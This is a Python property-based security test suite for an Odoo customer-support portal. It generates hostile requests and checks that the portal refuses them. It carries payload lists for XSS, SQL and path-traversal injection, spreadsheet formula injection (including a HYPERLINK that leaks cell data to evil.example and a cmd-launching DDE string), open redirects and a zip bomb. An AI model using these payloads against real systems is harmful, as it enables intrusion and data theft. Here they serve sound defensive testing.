"""Hostile portal requests generated with Hypothesis, and the checks they must pass.

The requests are generated first (``generate``: deterministic for a given count and kinds),
then sent (``execute``, optionally from several threads), then the database is checked
(``db_checks``). Rules: no 5xx (nor an internal error inside a JSON-RPC answer); B's ids
always answer 404 and change nothing; a POST without a valid CSRF token creates nothing;
no HTML field stores an active script; no answer reflects a markup payload unescaped.
The support user's calls (``generate_staff``: notes mentioning customers, context keys and
workflow values over RPC) are all refused, move nothing and leak no internal message.
"""

import csv
import io
import re
import threading
import uuid
import zipfile
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

XSS = [
    "<script>alert('XSSPROBE')</script>",
    "<img src=x onerror=alert('XSSPROBE')>",
    '"><script>XSSPROBE</script>',
    "<svg onload=alert('XSSPROBE')>",
    "<a href=\"javascript:alert('XSSPROBE')\">x</a>",
    "<iframe src=javascript:alert('XSSPROBE')></iframe>",
    "</textarea><script>XSSPROBE</script>",
    "<ScRiPt>XSSPROBE</sCrIpT>",
]
ODD = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "null",
    "None",
    "-1",
    "0",
    "1e309",
    "NaN",
    "[]",
    "{}",
    "' OR 1=1 --",
    "%s%s%n",
    "{{7*7}}",
    "${7*7}",
    "../../../etc/passwd",
    "\u202eexe.pdf",
    "😀" * 10,
    "\ufeff",
    "9" * 30,
    str(2**31),
    str(2**63),
    "-" + str(2**31),
    "1.5",
    "0x10",
    "\r\n\r\nX-Injected: 1",
]
# Spreadsheet formulas (ticket titles also come from email subjects): exports must show them as text
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Apri")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
]


def _bomb():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.log", b"\0" * (16 * 1024 * 1024))
    return buffer.getvalue()


EXE = b"MZ\x90\x00" + b"\x00" * 500
ZIP_BOMB = _bomb()  # 16 MB of zeros in ~16 kB
HTML_AS_TEXT = b"<html><body><script>XSSPROBE</script></body></html>"
# content that no allowed file type may carry, whatever its name: such an upload must be refused
DISGUISED = (EXE, ZIP_BOMB, HTML_AS_TEXT)
# JSON-RPC errors that are proper refusals or validation answers, not crashes
CLIENT_ERRORS = {
    "odoo.exceptions.AccessError",
    "odoo.exceptions.MissingError",
    "odoo.exceptions.UserError",
    "odoo.exceptions.ValidationError",
    "werkzeug.exceptions.NotFound",
    "werkzeug.exceptions.BadRequest",
    "odoo.http.SessionExpiredException",
}
# real tags only: escaped text (&lt;script&gt;) is harmless and expected
ACTIVE_MARKUP = r"<script|<iframe|<[a-z][^>]*\son[a-z]+\s*=|<[a-z][^>]*(href|src)\s*=\s*[\"']?\s*javascript:"
HTML_COLUMNS = [
    ("terasoft_ticket", "description"),
    ("mail_message", "body"),
    ("terasoft_faq", "answer"),
    ("mail_activity", "note"),
    ("res_partner", "comment"),
]


@dataclass
class Hostile:
    kind: str
    method: str
    path: str
    data: dict = field(default_factory=dict)
    files: list = None
    csrf: str = "valid"  # valid, missing, garbage, foreign
    cross: bool = False  # carries B's id where a record id is expected: must be 404
    json: dict = None


# ---------------------------------------------------------------- preparation
def prepare(env, login_a, login_b):
    """Ids the requests use (superuser env): A's own ticket, B's records, categories."""
    users = env["res.users"].search([("login", "in", [login_a, login_b])])
    user_a = users.filtered(lambda u: u.login == login_a)
    user_b = users.filtered(lambda u: u.login == login_b)
    category = env["terasoft.ticket.category"].search([], limit=1)
    Ticket = env["terasoft.ticket"]
    a_ticket = Ticket.create(
        {"name": "Hostile target A", "partner_id": user_a.partner_id.id, "category_id": category.id}
    )
    b_ticket = Ticket.create(
        {"name": "Hostile target B", "partner_id": user_b.partner_id.id, "category_id": category.id}
    )
    b_attachment = env["ir.attachment"].create(
        {"name": "b.txt", "raw": b"b", "res_model": "terasoft.ticket", "res_id": b_ticket.id}
    )
    b_document = env["terasoft.document"].search(
        [("partner_ids", "in", user_b.partner_id.commercial_partner_id.id), ("visibility", "=", "companies")], limit=1
    )
    # 1 MB is the largest accepted file here, so "oversized" costs little to send.
    env["ir.config_parameter"].set_param("terasoft_portal.attachment_max_size_mb", "1")
    env.flush_all()
    return {
        "user_a": user_a.id,
        "user_b": user_b.id,
        "partner_a": user_a.partner_id.id,
        "a_ticket": a_ticket.id,
        "b_ticket": b_ticket.id,
        "b_attachment": b_attachment.id,
        "b_partner": user_b.partner_id.id,
        "b_company": user_b.partner_id.commercial_partner_id.id,
        "b_document": b_document.id or 0,
        "categories": env["terasoft.ticket.category"].search([]).ids,
        "products": env["terasoft.product"].search([]).ids,
    }


def b_fingerprint(env, targets):
    """B's ticket and partners as they are (superuser env), plus A's acknowledged-write counters."""
    env.invalidate_all()
    cr = env.cr
    cr.execute("SELECT state, write_date, name, partner_id FROM terasoft_ticket WHERE id=%s", (targets["b_ticket"],))
    ticket = cr.fetchone()
    cr.execute("SELECT count(*) FROM mail_message WHERE model='terasoft.ticket' AND res_id=%s", (targets["b_ticket"],))
    b_messages = cr.fetchone()[0]
    cr.execute(
        "SELECT write_date FROM res_partner WHERE id IN %s ORDER BY id", ((targets["b_partner"], targets["b_company"]),)
    )
    partners = cr.fetchall()
    cr.execute(
        "SELECT count(*) FROM ir_attachment WHERE res_model='terasoft.ticket' AND res_id=%s", (targets["b_ticket"],)
    )
    b_attachments = cr.fetchone()[0]
    cr.execute("SELECT count(*) FROM terasoft_ticket WHERE partner_id=%s", (targets["partner_a"],))
    a_tickets = cr.fetchone()[0]
    cr.execute(
        """SELECT count(*) FROM mail_message WHERE model='terasoft.ticket' AND res_id=%s
                  AND author_id=%s AND message_type='comment'""",
        (targets["a_ticket"], targets["partner_a"]),
    )
    a_comments = cr.fetchone()[0]
    return {"b": (ticket, b_messages, partners, b_attachments), "a_tickets": a_tickets, "a_comments": a_comments}


# ---------------------------------------------------------------- strategies
def _texts():
    return st.one_of(
        st.text(max_size=60),
        st.sampled_from(XSS),
        st.sampled_from(ODD),
        st.integers(min_value=201, max_value=120_000).map(lambda n: ("é€😀\u0301" * (n // 4 + 1))[:n]),
        st.builds(lambda a, b: a + b, st.sampled_from(XSS), st.text(max_size=20)),
        st.sampled_from(FORMULAS),
    )


def _ids(targets):
    own = [targets["a_ticket"]]
    return st.one_of(
        st.sampled_from(own),
        st.integers(min_value=0, max_value=10**6),
        st.sampled_from([2**31 - 1, 2**31, 2**63, 10**20]),
    )


def _files():
    name = st.one_of(
        st.sampled_from(
            [
                "report.pdf",
                "virus.exe",
                "x.JS",
                "a.pdf.exe",
                "../../etc/passwd",
                "noext",
                ".htaccess",
                "<script>XSSPROBE</script>.txt",
                "é😀.png",
                "a" * 300 + ".txt",
                "file\x00.txt",
            ]
        ),
        st.text(min_size=1, max_size=30),
    )
    name = st.one_of(name, st.sampled_from(["fattura.pdf", "schermata.png", "log.zip", "lettera.docx", "note.txt"]))
    content = st.one_of(
        st.just(b""),
        st.binary(max_size=64),
        st.sampled_from(DISGUISED),
        st.just(b"%PDF-1.4 <script>XSSPROBE</script>"),
        st.integers(min_value=1_048_577, max_value=1_300_000).map(lambda n: b"x" * n),
    )
    mime = st.sampled_from(
        [
            "application/pdf",
            "text/html",
            "application/x-msdownload",
            "image/png",
            "application/octet-stream",
            "text/plain; charset=utf-7",
        ]
    )
    one = st.tuples(name, content, mime)
    return st.one_of(st.none(), st.lists(one, min_size=1, max_size=2))


def _csrf():
    return st.sampled_from(["valid", "valid", "valid", "missing", "garbage", "foreign"])


def _extra(targets):
    """Foreign ids smuggled as extra form fields."""
    keys = st.sampled_from(
        [
            "partner_id",
            "commercial_partner_id",
            "company_id",
            "user_id",
            "id",
            "state",
            "channel",
            "access_token",
            "res_id",
            "create_uid",
        ]
    )
    values = st.sampled_from(
        [str(targets["b_partner"]), str(targets["b_company"]), str(targets["b_ticket"]), "closed", "1", "email"]
    )
    return st.dictionaries(keys, values, max_size=3)


def _strategies(targets):
    text, ids = _texts(), _ids(targets)

    def sel(*values):
        return st.one_of(st.sampled_from(values), text)

    b = targets["b_ticket"]
    category = st.one_of(st.sampled_from([str(c) for c in targets["categories"]]), text)
    product = st.one_of(st.sampled_from([""] + [str(p) for p in targets["products"]]), text)
    new_ticket = st.builds(
        lambda name, desc, prio, imp, typ, cat, prod, ver, extra, files, csrf: Hostile(
            "new_ticket",
            "POST",
            "/my/tickets/new",
            {
                **extra,
                "name": name,
                "description": desc,
                "priority": prio,
                "importance": imp,
                "ticket_type": typ,
                "category_id": cat,
                "product_id": prod,
                "product_version": ver,
            },
            files,
            csrf,
        ),
        st.one_of(text, st.sampled_from(["Stampa cedolini", "Ticket <b>bold</b>"])),
        text,
        sel("0", "1", "2", "3"),
        sel("low", "medium", "high"),
        sel("clarification", "defect", "feature"),
        category,
        product,
        text,
        _extra(targets),
        _files(),
        _csrf(),
    )
    comment = st.builds(
        lambda tid, cross, body, files, csrf: Hostile(
            "comment",
            "POST",
            f"/my/tickets/{b if cross else tid}/comment",
            {"comment": body},
            files,
            "valid" if cross else csrf,
            cross,
        ),
        ids,
        st.booleans(),
        text,
        _files(),
        _csrf(),
    )
    action = st.builds(
        lambda what, tid, cross, answer, message: Hostile(
            what,
            "POST",
            f"/my/tickets/{b if cross else tid}/{what}",
            {"answer": answer, "message": message},
            None,
            "valid",
            cross,
        ),
        st.sampled_from(["close", "plan"]),
        ids,
        st.booleans(),
        sel("accept", "refuse"),
        text,
    )
    listing = st.builds(
        lambda page, sortby, filterby, show, search, search_in: Hostile(
            "list",
            "GET",
            f"/my/tickets/page/{page}" if page else "/my/tickets",
            {"sortby": sortby, "filterby": filterby, "show": show, "search": search, "search_in": search_in},
        ),
        st.integers(min_value=0, max_value=10**12),
        sel("newest", "priority"),
        sel("all", "open", "closed"),
        sel("all", "mine"),
        text,
        sel("all", "name", "description", "contact"),
    )
    detail = st.builds(
        lambda tid, cross, token: Hostile(
            "detail", "GET", f"/my/tickets/{b if cross else tid}", {"access_token": token} if token else {}, cross=cross
        ),
        ids,
        st.booleans(),
        st.one_of(st.none(), text),
    )
    download = st.builds(
        lambda tid, att, cross: Hostile(
            "download",
            "GET",
            f"/my/tickets/{b if cross else tid}/attachments/{targets['b_attachment'] if cross else att}",
            cross=cross,
        ),
        ids,
        ids,
        st.booleans(),
    )
    export = st.builds(
        lambda fmt, search, sortby: Hostile(
            "export", "GET", f"/my/tickets/export/{fmt}", {"search": search, "sortby": sortby}
        ),
        st.sampled_from(["csv", "xlsx"]),
        text,
        text,
    )
    contacts = st.builds(
        lambda pid, cross, msg, csrf: Hostile(
            "change_request",
            "POST",
            "/my/change_request",
            {"partner_id": str(targets["b_partner"]) if cross else pid, "message": msg},
            None,
            "valid" if cross else csrf,
            cross,
        ),
        st.one_of(text, ids.map(str)),
        st.booleans(),
        text,
        _csrf(),
    )
    contact = st.builds(
        lambda pid, cross: Hostile(
            "contact", "GET", f"/my/contacts/{targets['b_partner'] if cross else pid}", cross=cross
        ),
        ids,
        st.booleans(),
    )
    faq = st.builds(
        lambda cat, search, page: Hostile(
            "faq", "GET", "/my/faq", {"category_id": cat, "search": search, "page": page}
        ),
        st.one_of(text, ids.map(str)),
        text,
        text,
    )
    vote = st.builds(
        lambda fid, helpful: Hostile("faq_vote", "POST", f"/my/faq/{fid}/vote", {"helpful": helpful}),
        ids,
        sel("yes", "no"),
    )
    documents = st.builds(
        lambda search, category: Hostile("documents", "GET", "/my/documents", {"search": search, "category": category}),
        text,
        text,
    )
    doc_download = st.builds(
        lambda did, cross: Hostile(
            "document_download",
            "GET",
            f"/my/documents/{targets['b_document'] if cross else did}/download",
            cross=cross and bool(targets["b_document"]),
        ),
        ids,
        st.booleans(),
    )
    access = st.builds(
        lambda first, last, email, company, ips, honeypot, csrf: Hostile(
            "access_request",
            "POST",
            "/access/request",
            {
                "first_name": first,
                "last_name": last,
                "email": email,
                "company_name": company,
                "ip_addresses": ips,
                "phone": first,
                "website_url": honeypot,
            },
            None,
            csrf,
        ),
        text,
        text,
        st.one_of(st.emails(), text),
        text,
        text,
        st.sampled_from(["", "", "", "http://bot"]),
        _csrf(),
    )
    language = st.builds(
        lambda lang, redirect: Hostile("language", "POST", "/my/language", {"lang": lang, "redirect": redirect}),
        sel("it_IT", "en_US"),
        st.one_of(
            text, st.sampled_from(["//evil.example", "https://evil.example", "/\\evil.example", "javascript:alert(1)"])
        ),
    )
    suggest = st.builds(
        lambda term: Hostile("faq_suggest", "POST", "/my/tickets/faq_suggest", json={"term": term}),
        st.one_of(
            text,
            st.integers(),
            st.lists(st.integers(), max_size=3),
            st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
            st.none(),
        ),
    )
    return {
        "new_ticket": new_ticket,
        "comment": comment,
        "action": action,
        "list": listing,
        "detail": detail,
        "download": download,
        "export": export,
        "change_request": contacts,
        "contact": contact,
        "faq": faq,
        "faq_vote": vote,
        "documents": documents,
        "document_download": doc_download,
        "access_request": access,
        "language": language,
        "faq_suggest": suggest,
    }


def generate(targets, count, kinds=None, seed=0):
    """``count`` hostile requests drawn by Hypothesis (derandomized: same input, same requests)."""
    table = _strategies(targets)
    strategy = st.one_of([table[k] for k in (kinds or sorted(table))])
    collected = []

    @settings(
        max_examples=count,
        derandomize=True,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy, st.just(seed))
    def collect(request, _seed):
        collected.append(request)

    rounds = 0
    while len(collected) < count and rounds < 20:  # Hypothesis may stop early on a small space
        collect()
        rounds += 1
    return collected[:count]


# ---------------------------------------------------------------- execution
def _send(client, req, foreign_token):
    data = {k: v for k, v in req.data.items() if v is not None}
    if req.json is not None:
        return client.jsonrpc(req.path, req.json)
    if req.method == "GET":
        return client.get(req.path, params=data)
    csrf = {"valid": True, "missing": False, "garbage": "0123abcdo9999999999", "foreign": foreign_token}[req.csrf]
    files = [("attachments", (n, c, m)) for n, c, m in req.files] if req.files else None
    return client.post(req.path, data, files=files, csrf=csrf)


def _check(req, response):
    status = response.status_code
    if status >= 500:
        return f"HTTP {status}"
    # 413/414 from Odoo's HTTP layer, or HAProxy's own 400 page for an over-long request line:
    # refused before any routing, whatever the id, so nothing reached (or revealed) a record
    refused_before_routing = status in (413, 414) or (
        status == 400 and "Your browser sent an invalid request" in response.text
    )
    if req.cross and status != 404 and not refused_before_routing:
        return f"cross-company answered {status} {response.headers.get('Location', '')}, expected 404"
    if (
        req.csrf != "valid"
        and req.method == "POST"
        and req.json is None
        and status in (302, 303)
        and req.kind in ("new_ticket", "comment", "change_request")
    ):
        return f"accepted with a {req.csrf} CSRF token"
    ctype = response.headers.get("Content-Type", "")
    if req.json is not None and status == 200:
        error = (response.json().get("error") or {}).get("data", {}).get("name")
        if error and error not in CLIENT_ERRORS:
            return f"JSON-RPC internal error {error}"
    if (
        req.kind in ("new_ticket", "comment")
        and status in (302, 303)
        and any(content in DISGUISED for _name, content, _mime in (req.files or []))
    ):
        return "a disguised file (executable, zip bomb or HTML) was accepted"
    if req.kind == "export" and status == 200:
        problem = _export_formula(response)
        if problem:
            return problem
    if "html" in ctype:
        body = response.text
        for value in list(req.data.values()) + [f[0] for f in (req.files or [])]:
            if isinstance(value, str) and "XSSPROBE" in value and "<" in value:
                for payload in XSS + ["<script>XSSPROBE</script>"]:
                    if payload in value and payload in body:
                        return f"payload reflected unescaped: {payload}"
    if req.kind == "language" and status in (302, 303):
        location = response.headers.get("Location", "")
        if location.startswith("//") or "evil.example" in location.split("?")[0][:40]:
            return f"open redirect to {location}"
    return None


def _export_formula(response):
    """A cell of an export that a spreadsheet would run as a formula, if any."""
    if response.content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
            sheets = [workbook.read(n).decode() for n in workbook.namelist() if n.startswith("xl/worksheets/")]
        if any(re.search(r"<f[ >]", sheet) for sheet in sheets):
            return "formula cell in the XLSX export"
        return None
    text = response.content.decode("utf-8-sig", "replace")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                return f"CSV cell read as a formula: {cell[:40]!r}"
    return None


def execute(clients, requests_, targets, threads=4):
    """Send the requests as A (``clients['a']``; ``clients['b']`` gives a foreign CSRF token).

    Returns stats: sent, statuses, acknowledged creations/comments, failures (strings).
    """
    foreign = clients["b"].csrf() if "b" in clients else "deadbeef" * 5 + "o9999999999"
    stats = {"sent": 0, "statuses": Counter(), "failures": [], "ack_tickets": 0, "ack_comments": 0, "cross": 0}
    lock = threading.Lock()
    client = clients["a"]

    def one(req):
        try:
            response = _send(client, req, foreign)
            error = _check(req, response)
            status = response.status_code
        except Exception as exc:
            error, status = f"{type(exc).__name__}: {str(exc)[:120]}", "exc"
        with lock:
            stats["sent"] += 1
            stats["statuses"][status] += 1
            stats["cross"] += req.cross
            if error:
                detail = {k: (v[:60] + "…" if isinstance(v, str) and len(v) > 60 else v) for k, v in req.data.items()}
                stats["failures"].append(f"{req.kind} {req.method} {req.path[:80]} {detail!r:.300}: {error}")
            elif status == 303 and req.kind == "new_ticket":
                stats["ack_tickets"] += 1
            elif (
                status == 303
                and req.kind == "comment"
                and not req.cross
                and req.path == f"/my/tickets/{targets['a_ticket']}/comment"
                and response.headers.get("Location", "").endswith("#comments")
            ):
                # a refused comment also redirects (post/redirect/get), to "#add_comment"
                stats["ack_comments"] += 1

    if threads <= 1:
        for req in requests_:
            one(req)
    else:
        with ThreadPoolExecutor(max_workers=threads) as pool:
            list(pool.map(one, requests_))
    return stats


def db_checks(env, targets, before, stats):
    """Failures found in the database after the run (superuser env)."""
    failures = []
    after = b_fingerprint(env, targets)
    if after["b"] != before["b"]:
        failures.append(f"B's records changed: {before['b']} -> {after['b']}")
    created = after["a_tickets"] - before["a_tickets"]
    if created != stats["ack_tickets"]:
        failures.append(f"{stats['ack_tickets']} tickets acknowledged, {created} created")
    comments = after["a_comments"] - before["a_comments"]
    if comments != stats["ack_comments"]:
        failures.append(f"{stats['ack_comments']} comments acknowledged on A's ticket, {comments} stored")
    failures += stored_scripts(env)
    return failures


def stored_scripts(env):
    """Active markup stored in HTML columns (where the browser would run it)."""
    failures = []
    for table, column in HTML_COLUMNS:
        env.cr.execute(f"""SELECT id FROM {table} WHERE {column}::text ~* %s LIMIT 5""", (ACTIVE_MARKUP,))
        ids = [row[0] for row in env.cr.fetchall()]
        if ids:
            failures.append(f"unsanitized script stored in {table}.{column}: ids {ids}")
    return failures


def new_marker():
    return uuid.uuid4().hex[:8]


# ---------------------------------------------------------------- staff over RPC (issue 10)
# A support user tries to reach a customer with an internal note (mentions, partner_ids, the
# internal flag, an internal subtype) and to change a ticket's state without its workflow
# (context keys a caller can send, values of create/write/copy). Nothing may leak or move.
WORKFLOW_CONTEXT_KEYS = [
    "terasoft_ticket_move",
    "install_mode",
    "tracking_disable",
    "mail_notrack",
    "import_file",
    "module",
    "active_test",
    "su",
    "sudo",
    "default_state",
    "default_date_closed",
]
STATES = ["new", "waiting_support", "waiting_customer", "in_progress", "resolved", "closed", "blocked", "discarded"]


@dataclass
class StaffCall:
    kind: str  # note, chatter_note, state_write, state_create, state_copy
    method: str
    args: list
    kwargs: dict


def _json_values():
    return st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.text(max_size=12),
        st.sampled_from(STATES + ["reopen", "customer_reply", "autoclose", "unblock"]),
        st.lists(st.text(max_size=6), max_size=2),
        st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
    )


def _staff_strategies(targets):
    ticket, customers = targets["a_ticket"], [targets["partner_a"], targets["b_partner"]]
    context = st.dictionaries(st.sampled_from(WORKFLOW_CONTEXT_KEYS), _json_values(), min_size=1, max_size=4)
    internal = st.sampled_from(
        [
            {"subtype_xmlid": "mail.mt_note"},
            {},
            {"subtype_xmlid": "mail.mt_activities"},
            {"subtype_xmlid": "mail.mt_comment", "is_internal": True},
            {"message_type": "comment", "subtype_xmlid": "mail.mt_note"},
        ]
    )
    partners = st.lists(st.sampled_from(customers), min_size=1, max_size=2, unique=True)
    note = st.builds(
        lambda body, values, pids: StaffCall(
            "note", "message_post", [[ticket]], {"body": body, "partner_ids": pids, **values}
        ),
        _texts(),
        internal,
        partners,
    )
    chatter_note = st.builds(
        lambda body, pids: StaffCall(
            "chatter_note",
            "/mail/message/post",
            [],
            {
                "thread_model": "terasoft.ticket",
                "thread_id": ticket,
                "post_data": {
                    "body": body,
                    "message_type": "comment",
                    "subtype_xmlid": "mail.mt_note",
                    "partner_ids": pids,
                },
            },
        ),
        _texts(),
        partners,
    )
    state_write = st.builds(
        lambda state, ctx, extra: StaffCall(
            "state_write", "write", [[ticket], {"state": state, **extra}], {"context": ctx}
        ),
        st.sampled_from(STATES),
        context,
        st.dictionaries(
            st.sampled_from(["state_before_block", "date_closed", "date_taken"]),
            st.sampled_from([False, "closed", "2026-01-01 10:00:00"]),
            max_size=1,
        ),
    )
    state_create = st.builds(
        lambda state, ctx: StaffCall(
            "state_create",
            "create",
            [{"name": "Forged by staff", "category_id": targets["categories"][0], "state": state}],
            {"context": ctx},
        ),
        st.sampled_from([s for s in STATES if s != "new"]),
        context,
    )
    state_copy = st.builds(
        lambda state, ctx: StaffCall("state_copy", "copy", [[ticket]], {"default": {"state": state}, "context": ctx}),
        st.sampled_from([s for s in STATES if s != "new"]),
        context,
    )
    return st.one_of(note, chatter_note, state_write, state_create, state_copy)


def generate_staff(targets, count, seed=0):
    strategy = _staff_strategies(targets)
    collected = []

    @settings(
        max_examples=count,
        derandomize=True,
        deadline=None,
        database=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy, st.just(seed))
    def collect(call, _seed):
        collected.append(call)

    rounds = 0
    while len(collected) < count and rounds < 20:
        collect()
        rounds += 1
    return collected[:count]


def staff_fingerprint(env, targets):
    """What the staff calls must not change: A's ticket state and logs, forged tickets, and
    the internal messages of tickets notified to customers (the leaks: must stay 0)."""
    env.invalidate_all()
    cr = env.cr
    cr.execute("SELECT state, state_before_block, date_closed FROM terasoft_ticket WHERE id=%s", (targets["a_ticket"],))
    ticket = cr.fetchone()
    cr.execute("SELECT count(*) FROM terasoft_ticket_state_log WHERE ticket_id=%s", (targets["a_ticket"],))
    logs = cr.fetchone()[0]
    cr.execute("SELECT count(*) FROM terasoft_ticket WHERE name = 'Forged by staff' AND state != 'new'")
    forged = cr.fetchone()[0]
    return {"ticket": (ticket, logs), "forged": forged, "leaks": internal_leaks(env)}


def internal_leaks(env):
    """Notifications (inbox or email) of internal ticket messages to partners without an
    internal user: each one is a note, or activity feedback, that reached a customer."""
    env.cr.execute("""
        SELECT count(*) FROM mail_notification n
          JOIN mail_message m ON m.id = n.mail_message_id
          LEFT JOIN mail_message_subtype s ON s.id = m.subtype_id
          JOIN res_partner p ON p.id = n.res_partner_id
         WHERE m.model = 'terasoft.ticket' AND (m.is_internal OR s.internal) AND p.partner_share""")
    return env.cr.fetchone()[0]


def execute_staff(client, calls):
    """Send the calls as the support user; every one must be refused with a client error."""
    stats = {"sent": 0, "refused": 0, "failures": [], "kinds": Counter()}
    for call in calls:
        stats["sent"] += 1
        stats["kinds"][call.kind] += 1
        try:
            if call.method.startswith("/"):
                response = client.jsonrpc(call.method, call.kwargs)
                error = (
                    None
                    if response.status_code >= 500
                    else (response.json().get("error") or {}).get("data", {}).get("name")
                )
                status = response.status_code
            else:
                _result, error = client.call_kw("terasoft.ticket", call.method, call.args, call.kwargs)
                status = 200
        except Exception as exc:  # noqa: BLE001
            stats["failures"].append(f"{call.kind}: {type(exc).__name__}: {str(exc)[:120]}")
            continue
        if status >= 500 or (error and error not in CLIENT_ERRORS):
            stats["failures"].append(f"{call.kind} {call.method}: HTTP {status} {error}")
        elif not error:
            stats["failures"].append(f"{call.kind} {call.method} {call.kwargs!r:.200}: accepted")
        else:
            stats["refused"] += 1
    return stats


def staff_db_checks(env, targets, before):
    after = staff_fingerprint(env, targets)
    failures = []
    if after["ticket"] != before["ticket"]:
        failures.append(f"A's ticket moved without its workflow: {before['ticket']} -> {after['ticket']}")
    if after["forged"] != before["forged"]:
        failures.append(f"{after['forged'] - before['forged']} tickets created outside Open")
    if after["leaks"] != before["leaks"]:
        failures.append(f"{after['leaks'] - before['leaks']} internal messages notified to customers")
    return failures
